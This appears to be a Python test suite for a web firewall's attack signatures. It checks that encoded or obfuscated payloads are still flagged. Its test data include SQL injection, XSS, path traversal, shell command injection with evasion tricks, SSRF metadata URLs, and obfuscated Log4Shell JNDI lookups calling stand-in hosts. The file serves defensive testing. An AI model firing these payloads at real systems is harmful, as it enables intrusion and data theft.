"""An attack that is spelled otherwise is judged no milder: whatever it is encoded with, however often."""

import base64
import html

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from addons.addon import Facts
from addons.exchange import Exchange, Request
from addons.finding import Effect
from addons.signatures import RuleSet, Signatures
from addons.signatures.grammar import sql

ATTACKS = (
    "x' or 4=4 -- ", "7 union select login, pw from members", "x'; drop table invoices -- ", "<script>steal(7)</script>",
    "<img src=q onerror=steal(7)>", "../../../../etc/passwd", "; cat /etc/hosts", "$(uname -a)", "{{6*7}}", "${jndi:ldap://198.51.100.7/a}",
    "http://169.254.169.254/latest/meta-data", "*)(uid=*))(|(uid=*",
)  # fmt: skip


def percent(text: str) -> str:
    return "".join(f"%{octet:02X}" for octet in text.encode())


def full_width(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if c in "'\"<>();|/.${}" else c for c in text)


ENCODINGS = {
    "percent": percent,
    "percent, only signs": lambda text: "".join(c if c.isalnum() else percent(c) for c in text),
    "percent u": lambda text: "".join(f"%u{ord(c):04x}" for c in text),
    "HTML, decimal": lambda text: "".join(f"&#{ord(c)};" for c in text),
    "HTML, hexadecimal": lambda text: "".join(f"&#x{ord(c):X};" for c in text),
    "HTML, names": html.escape,
    "script": lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
    "script, hexadecimal": lambda text: "".join(f"\\x{ord(c):02x}" if ord(c) < 256 else c for c in text),
    "full width": full_width,
}
WHOLE = {
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64 for URLs": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "hexadecimal": lambda text: text.encode().hex(),
    "a query's plus": lambda text: text.replace(" ", "+"),
}


@pytest.fixture(scope="module")
def signatures(pack: RuleSet) -> Signatures:
    return Signatures(pack)


def points(signatures: Signatures, text: str) -> int:
    query = "".join(f"%{octet:02x}" for octet in text.encode())
    exchange = Exchange("1", Request("GET", b"/", b"q=" + query.encode()))
    found = [f for phase in sorted(signatures.phases) for f in signatures.inspect(exchange, phase, Facts())]
    return sum(f.severity for f in found if f.effect is Effect.SCORE)


@settings(max_examples=80, deadline=None)
@given(st.sampled_from(ATTACKS), st.lists(st.sampled_from(sorted(ENCODINGS)), max_size=2), st.booleans())
def test_encoding_an_attack_never_lets_it_pass(signatures, attack, names, capitals):
    text = (
        attack.swapcase()
        if capitals and "etc" not in attack and "cat" not in attack and "uname" not in attack
        else attack
    )
    for name in names:
        text = ENCODINGS[name](text)
    assert points(signatures, text) >= 5, (attack, names)


@pytest.mark.parametrize("name", [name for name in sorted(WHOLE) if name != "a query's plus"])
@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if len(attack) > 15])
def test_wrapping_an_attack_as_a_whole_never_lets_it_pass(signatures, attack, name):
    assert points(signatures, WHOLE[name](attack)) >= 5


@pytest.mark.parametrize("blank", ["\t", "\n", "/**/", "/*x*/", "  ", "%20", "\x0b"])
def test_other_blanks_do_not_hide_sql(signatures, blank):
    assert points(signatures, "7 union select login from members".replace(" ", blank)) >= 5


@pytest.mark.parametrize("text", ["; c'a't /etc/hosts", '; c""at /etc/hosts', "; c\\at /etc/hosts", "; cat${IFS}/etc/hosts", "; /b?n/c?t /etc/hosts",
                                  "; ca$@t /etc/hosts", ";{cat,/etc/hosts}"])  # fmt: skip
def test_a_shell_s_ways_to_spell_a_word_do_not_hide_a_command(signatures, text):
    assert points(signatures, text) >= 5


@pytest.mark.parametrize("text", ["${${lower:j}ndi:ldap://e.test/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://e.test/a}", "${${env:NONE:-j}ndi${env:NONE:-:}ldap://e.test}",
                                  "${${date:'j'}${date:'n'}di:dns://e.test}", "${j${upper:n}d${lower:i}:ldap://e.test/a}"])  # fmt: skip
def test_a_lookup_within_a_lookup_is_resolved(signatures, text):
    assert points(signatures, text) >= 5


def test_a_parameter_given_twice_is_judged_as_servers_put_it_together(signatures):
    exchange = Exchange("1", Request("GET", b"/", b"q=7+union/*&q=*/select+login+from/*&q=*/members"))
    found = [f for phase in sorted(signatures.phases) for f in signatures.inspect(exchange, phase, Facts())]
    assert sum(f.severity for f in found) >= 5


@pytest.mark.parametrize("text", ["1" + " or a=a" * 80 + " x y", "1'" + "+1" * 400 + " x", "1 in " + "(1," * 400, "1' between " + "1 and " * 400])  # fmt: skip
def test_a_chain_of_conditions_is_read_once(text):
    """Each condition is looked at once, however many follow: the number of ways to read them would double with each."""
    assert sql.breaks_out(text) in {True, False}
    assert sql.Tokens(text).between(0, sql.TOKENS + 1)[sql.TOKENS :] == []
